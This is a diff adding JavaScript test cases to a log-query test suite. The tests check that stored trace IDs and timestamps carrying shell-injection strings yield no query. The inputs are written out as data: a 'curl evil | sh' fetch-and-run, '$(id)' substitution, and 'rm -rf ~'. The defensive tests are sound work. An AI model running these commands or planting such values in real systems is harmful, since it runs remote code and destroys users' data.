@@ -21,4 +21,15 @@ describe('the log query', () => {
   it('is none without a trace', () => {
     expect(logQuery({ ...BLOCKED, traceId: null })).toBeNull();
   });
+
+  it.each([
+    { traceId: `x"'; curl evil | sh #` },
+    { traceId: '4bf92f3577b34da6a3ce929d0e0e4736\nrm' },
+    { traceId: '$(id)bf92f3577b34da6a3ce929d0e0e' },
+    { startedAt: `2026'; rm -rf ~ #` },
+    { startedAt: 'yesterday' },
+  ])('is none where a stored timeline would put words into a shell: %j', (stored) => {
+    expect(logQuery({ ...BLOCKED, ...stored })).toBeNull();
+    expect(logQuery({ ...PASSED, ...stored })).toBeNull();
+  });
 });
